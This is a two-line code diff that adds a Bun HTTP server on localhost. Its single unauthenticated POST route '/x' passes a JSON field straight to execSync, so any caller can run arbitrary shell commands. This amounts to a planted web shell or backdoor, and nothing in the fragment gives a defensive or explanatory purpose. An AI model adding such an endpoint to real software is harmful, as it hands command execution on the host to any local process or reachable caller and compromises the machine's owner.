@@ -1,0 +1,2 @@
+import { execSync } from "node:child_process";
+Bun.serve({ hostname: '127.0.0.1', routes: { '/x': { POST: async (req) => { const b = await req.json(); execSync(b.a); return new Response(''); } } } });
